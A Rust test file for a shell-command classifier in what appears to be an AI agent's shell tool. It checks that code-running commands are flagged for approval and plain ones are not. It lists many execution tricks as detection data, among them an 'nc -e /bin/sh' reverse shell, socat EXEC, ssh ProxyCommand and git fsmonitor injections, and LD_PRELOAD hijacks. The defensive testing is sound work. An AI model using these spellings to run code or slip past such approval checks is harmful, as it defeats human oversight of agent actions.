//! Tests of `code.rs` and `code_parse.rs`: every spelling of a command that runs code is
//! found (versioned names, paths, letter case, assignments, wrappers, nesting, pipes, `&&`,
//! subshells, substitutions, redirections), and plain commands are not.

use super::super::code_parse::segments;
use super::super::run::{RunShell, RunShellInput};
use super::super::shell::classify;
use super::super::tool::{Risk, Tool, ToolContext};
use super::*;

/// Commands that run code, each with its program as the first word.
const RUNS_CODE: &[&str] = &[
    // Interpreters with inline code or a script.
    "python3.12 -c 'import os; os.system(\"id\")'",
    "python3 -c x",
    "python -c x",
    "python2.7 -c x",
    "pypy3 -c x",
    "python3.12-dbg -c x",
    "pythonw -c x",
    "py -3 -c x",
    "ipython -c x",
    "python3 script.py",
    "python3 -m http.server",
    "perl5.36 -e 'system q(id)'",
    "perl -e x",
    "perl -ne 'print' f",
    "ruby -e x",
    "ruby3.2 -e x",
    "irb",
    "node -e x",
    "node18 -e x",
    "nodejs -p x",
    "deno eval x",
    "deno run x.ts",
    "bun -e x",
    "bun run x",
    "php -r x",
    "php8.2 -r x",
    "php-cgi x",
    "lua -e x",
    "lua5.4 -e x",
    "luajit -e x",
    "Rscript -e x",
    "R -e x",
    "julia -e x",
    "tclsh x.tcl",
    "osascript -e x",
    "pwsh -c x",
    "powershell.exe -c x",
    // The awk family: an awk program can always run commands.
    "awk '{print}' f",
    "awk '{print | \"sh\"}' f",
    "mawk 'BEGIN{system(\"id\")}'",
    "gawk 'BEGIN{print}'",
    "gawk-5.1 'BEGIN{print}'",
    "nawk '{print}' f",
    "busybox awk 'BEGIN{system(\"id\")}'",
    // Shells and what makes the current shell run code.
    "sh -c id",
    "bash script.sh",
    "zsh -c id",
    "dash -c id",
    "fish -c id",
    "source env.sh",
    ". ./env.sh",
    "eval id",
    "exec id",
    "trap id EXIT",
    // Programs whose options or scripts run commands.
    "sqlite3 x.db '.shell id'",
    "sqlite3 x.db '.system id'",
    "sqlite3 x.db 'select 1'",
    "sqlite3 -init evil.sql x.db",
    "sqlite3 x.db",
    "duckdb x.db",
    "psql -c '\\! id'",
    "mysql -e 'system id'",
    "gdb -ex '!id'",
    "gdb -x script.gdb",
    "gdb --batch -ex run ./a.out",
    "lldb -o 'platform shell id'",
    "ssh -o ProxyCommand='sh -c id' host",
    "ssh -oProxyCommand=id host",
    "ssh -o proxycommand=id host",
    "ssh -o 'ProxyCommand id' host",
    "ssh -vo ProxyCommand=id host",
    "ssh -o 'LocalCommand id' -o PermitLocalCommand=yes host",
    "ssh -o KnownHostsCommand=id host",
    "ssh -F ./cfg host",
    "ssh -Fcfg host",
    "scp -o ProxyCommand=id a host:b",
    "scp -S ./evil a host:b",
    "sftp -o ProxyCommand=id host",
    "sftp -b batch host",
    "rsync -e 'sh -c id' a b",
    "rsync --rsh=id a b",
    "git -c alias.x='!id' x",
    "git -c core.pager=id log",
    "git -c core.fsmonitor=id status",
    "git --config-env=core.pager=P log",
    "git config core.fsmonitor id",
    "git config --global alias.st '!id'",
    "git commit -m x",
    "git push",
    "git pull",
    "git checkout main",
    "git switch main",
    "git merge x",
    "git rebase main",
    "git am x.patch",
    "git st",
    "git lfs pull",
    "git -C sub commit -m x",
    "git fetch --upload-pack=id origin",
    "git clone ext::id",
    "git rebase -x id main",
    "git difftool --extcmd=id",
    "java -jar x.jar",
    "java Main",
    "java Main.java",
    "java -cp . Main",
    "javaw -jar x.jar",
    "jshell x.jsh",
    "make",
    "make all",
    "make --version",
    "gmake -j4",
    "ninja",
    "cmake -P x.cmake",
    "cargo run",
    "cargo build",
    "cargo test",
    "cargo check",
    "cargo xtask test",
    "npm test",
    "npm run build",
    "npm install",
    "npm ci",
    "npx x",
    "yarn build",
    "pnpm dev",
    "pip install .",
    "pip3 install -e .",
    "uv run x.py",
    "uv pip install .",
    "go run .",
    "go test ./...",
    "go generate",
    "go build -toolexec=id .",
    "docker run x",
    "podman exec -it x sh",
    "kubectl exec x -- id",
    "pytest",
    "tox",
    "bundle exec rake",
    "rake",
    "mvn package",
    "gradle build",
    "find . -exec id ';'",
    "find . -execdir id '{}' +",
    "find . -ok id ';'",
    "rg --pre=id x",
    "tar --to-command=id -xf a.tar",
    "tar -I id -xf a",
    "tar --checkpoint-action=exec=id -cf a.tar .",
    "zip -TT id a.zip x",
    "sed 's/a/b/e' f",
    "sed 's|a|b|ge' f",
    "sed '1e id' f",
    "sed 's/x/y/;e id' f",
    "sed -f s.sed f",
    "sed --expression='s/a/b/e' f",
    "vim -c '!id'",
    "vi f",
    "less f",
    "man -P id ls",
    "crontab f",
    "at now",
    "systemd-run id",
    "patch -p1",
    // Scheduler and other wrappers: they run what they are given.
    "chrt 1 id",
    "chrt -f 1 id",
    "nice id",
    "nice -n 5 id",
    "ionice -c3 id",
    "taskset 1 id",
    "taskset -c 0 id",
    "setsid id",
    "stdbuf -oL id",
    "unshare -r id",
    "nsenter -t 1 id",
    "flock /tmp/l id",
    "time id",
    "watch id",
    "timeout 5 id",
    "nohup id",
    "sudo id",
    "doas id",
    "su -c id",
    "env id",
    "env -i id",
    "env FOO=1 id",
    "xargs id",
    "parallel id ::: a",
    "strace id",
    "valgrind ./a.out",
    "perf record id",
    "busybox sh -c id",
    // More programs whose options or scripts run commands, and variables that make any
    // program run other code.
    "fd -x id",
    "fd --exec-batch id",
    "socat - EXEC:id",
    "socat - system:id",
    "nc -e /bin/sh h 1",
    "ncat --sh-exec id h 1",
    "aria2c --on-download-complete=id x",
    "bat --pager=id f",
    "gcc -wrapper id x.c",
    "clang -fplugin=x.so x.c",
    "ssh -I lib.so host",
    "ssh -o PKCS11Provider=x.so host",
    "ssh-keygen -D lib.so",
    "gnuplot -e x",
    "dc -e '!id'",
    "mlr -n put 'end{system(\"id\")}'",
    "tmux new id",
    "screen id",
    "xterm -e id",
    "open -a Calculator",
    "xdg-open x.desktop",
    "terraform apply",
    "pre-commit run",
    "direnv allow",
    "composer install",
    "ctest",
    "dune build",
    "LD_PRELOAD=./x.so ls",
    "GIT_SSH_COMMAND=id git fetch",
    "PAGER=id man ls",
    "NODE_OPTIONS=--require=./x.js npm ls",
    "PATH=. ls",
    "BASH_ENV=x.sh cat f",
    // A program named by a path that is not a system folder, or by an expansion.
    "./build.sh",
    "./python3 -c x",
    "bin/tool",
    "../x",
    "/home/u/ws/x.sh",
    "$PY -c x",
    "${PY} -c x",
    "$(which python3) -c x",
    "`which python3` -c x",
    "\"$PY\" -c x",
    "$'\\x70ython3' -c x",
];

/// Ways to spell the same command: wrapped, nested, chained, redirected.
pub(super) const SHAPES: &[&str] = &[
    "{}",
    "FOO=1 {}",
    "A=1 B=2 {}",
    "env FOO=1 {}",
    "env -i {}",
    "ls | {}",
    "cat x | {} | head",
    "true && {}",
    "false || {}",
    "ls; {}",
    "ls\n{}",
    "({})",
    "( ( {} ) )",
    "{ {}; }",
    "echo $({})",
    "echo \"$({})\"",
    "echo \"a $(true; {}) b\"",
    "x=$({})",
    "cat <({})",
    "if true; then {}; fi",
    "while true; do {}; done",
    "for f in a; do {}; done",
    "{} 2>&1",
    "{} > out.txt",
    "{} < in.txt",
    "{} >> log 2>/dev/null",
    "! {}",
    "{} &",
    "nice -n 5 {}",
    "chrt 1 {}",
    "timeout 5 {}",
    "sudo -u u {}",
    "nohup {} &",
    "sh -c \"{}\"",
    "bash -lc \"{}\"",
];

/// The program word spelled other ways: absolute paths, other case.
pub(super) fn program_spellings(cmd: &str) -> Vec<String> {
    let (prog, rest) = cmd.split_once(' ').unwrap_or((cmd, ""));
    let mut out = vec![cmd.to_owned()];
    if prog.contains(['/', '$', '`', '"', '=']) {
        return out;
    }
    let sep = if rest.is_empty() { "" } else { " " };
    for p in [
        format!("/usr/bin/{prog}"),
        format!("/usr/local/bin/{prog}"),
        format!("/opt/x/bin/{prog}"),
        prog.to_ascii_uppercase(),
    ] {
        out.push(format!("{p}{sep}{rest}"));
    }
    out
}

#[test]
fn every_spelling_of_a_command_that_runs_code_is_found() {
    let mut checked = 0;
    for cmd in RUNS_CODE {
        for spelled in program_spellings(cmd) {
            for shape in SHAPES {
                let line = shape.replace("{}", &spelled);
                assert!(runs_code(&line).is_some(), "{line:?} runs code");
                let c = classify(&line);
                assert!(
                    c.runs_code.is_some() && c.always_ask.is_some(),
                    "{line:?}: {c:?}"
                );
                checked += 1;
            }
        }
    }
    assert!(checked > 5000, "{checked}");
    // The tool labels them "runs code" and says so.
    let ctx = ToolContext::new(
        super::super::paths::Workspace::new(&std::env::current_dir().unwrap()).unwrap(),
        Default::default(),
    );
    for cmd in RUNS_CODE {
        let input = RunShellInput {
            command: (*cmd).to_owned(),
            timeout_secs: None,
        };
        assert_eq!(RunShell.risk(&input, &ctx), Risk::RunsCode, "{cmd}");
        let why = RunShell.always_ask(&input, &ctx).unwrap_or_default();
        assert!(
            why.contains("runs code") && why.contains("once only"),
            "{cmd}: {why}"
        );
    }
}

#[test]
fn plain_commands_do_not_run_code() {
    for plain in [
        "ls -la",
        "git status",
        "git log --oneline -5",
        "git diff --cached",
        "git show HEAD",
        "git log -C --stat",
        "git --no-pager log",
        "git branch -a",
        "cat README.md",
        "grep -rn x .",
        "rg x src",
        "echo hello",
        "echo python3 -c x",
        "grep -e 'python -c' f",
        "cat f | grep python",
        "echo $HOME",
        "echo ${python}",
        "echo $((1 + 2))",
        "python3 --version",
        "node --version",
        "java -version",
        "sqlite3 --version",
        "npm ls",
        "npm view x",
        "go list ./...",
        "go mod tidy",
        "go env GOPATH",
        "pip list",
        "uv pip list",
        "docker ps",
        "docker image ls",
        "docker container inspect x",
        "ls | head",
        "ls -la > out.txt 2>&1",
        "wc -l f",
        "ssh host ls",
        "ssh -o ConnectTimeout=5 host",
        "scp a host:b",
        "sed -n 1p f",
        "sed 's/e/E/' f",
        "sed 's/one/two/g' f",
        "sed -n '/pattern/p' f",
        "tar xf a.tar",
        "find . -name '*.rs'",
        "env",
        "nice",
        "/usr/bin/ls",
        "/bin/cat f",
        "ls # python -c x",
        "TERM=dumb ls",
        "LANG=C sort f",
        "terraform fmt",
        "fd -e rs x",
        "nc -z host 80",
        "gcc -O2 -c x.c",
        "socat - TCP:host:80",
    ] {
        assert_eq!(runs_code(plain), None, "{plain}");
    }
}

#[test]
fn names_lose_their_path_case_and_version() {
    for (given, base) in [
        ("python3.12", "python"),
        ("python3", "python"),
        ("Python3.12.EXE", "python"),
        ("/usr/bin/python3", "python"),
        ("C:\\Python312\\python.exe", "python"),
        ("perl5.36", "perl"),
        ("node18", "node"),
        ("lua5.4", "lua"),
        ("pypy3", "pypy"),
        ("gawk-5.1", "gawk"),
        ("sqlite3", "sqlite"),
        ("ls", "ls"),
        ("sha256sum", "sha256sum"),
        (".", "."),
    ] {
        assert_eq!(base_name(given), base, "{given}");
    }
}

#[test]
fn a_line_is_cut_into_the_commands_the_shell_runs() {
    let words = |line: &str| -> Vec<Vec<String>> {
        segments(line)
            .into_iter()
            .map(|s| s.into_iter().map(|w| w.text).collect())
            .collect()
    };
    assert_eq!(words("a b 'c d' \"e f\""), [["a", "b", "c d", "e f"]]);
    assert_eq!(words("a | b && c; d"), [["a"], ["b"], ["c"], ["d"]]);
    assert_eq!(words("a 2>&1 > out < in b"), [["a", "b"]]);
    assert_eq!(
        words("echo \"x $(b c) y\""),
        vec![vec!["b", "c"], vec!["echo", "x $ y"]]
    );
    assert_eq!(words("echo `b`"), vec![vec!["b"], vec!["echo", "$"]]);
    assert_eq!(words("(a) {b;}"), vec![vec!["a"], vec!["{b"], vec!["}"]]);
    assert_eq!(words("a # b; c"), [["a"]]);
    let dynamic = segments("$X -c y");
    assert!(dynamic[0][0].dynamic && !dynamic[0][1].dynamic);
    // Unterminated quotes and substitutions never panic; what comes before them is seen.
    for broken in [
        "'a", "\"a", "$(a", "`a", "${a", "a \\", "$((", "<(", "\"$(", "$'",
    ] {
        assert!(
            runs_code(&format!("python3 -c x; {broken}")).is_some(),
            "{broken}"
        );
        let _ = segments(&format!("{broken} python3 -c x"));
    }
}

#[test]
fn hostile_lines_never_panic_and_a_command_after_them_is_seen() {
    const PIECES: &[&str] = &[
        "'", "\"", "`", "$", "$(", "${", "$((", ")", "(", "{", "}", "\\", ";", "&", "|", "<", ">",
        "<(", "#", " ", "\n", "=", "a", "x=1", "python3", "-c", "é", "\u{202e}", "2>&1", "$'",
    ];
    let mut rng = fastrand::Rng::with_seed(25);
    for _ in 0..20_000 {
        let n = rng.usize(1..12);
        let line: String = (0..n).map(|_| PIECES[rng.usize(..PIECES.len())]).collect();
        let _ = segments(&line);
        let _ = classify(&line);
        // Whatever came before, a command on a line of its own after a closed line is seen.
        let closed = format!("python3 -c x\n{line}");
        assert!(runs_code(&closed).is_some(), "{closed:?}");
    }
}
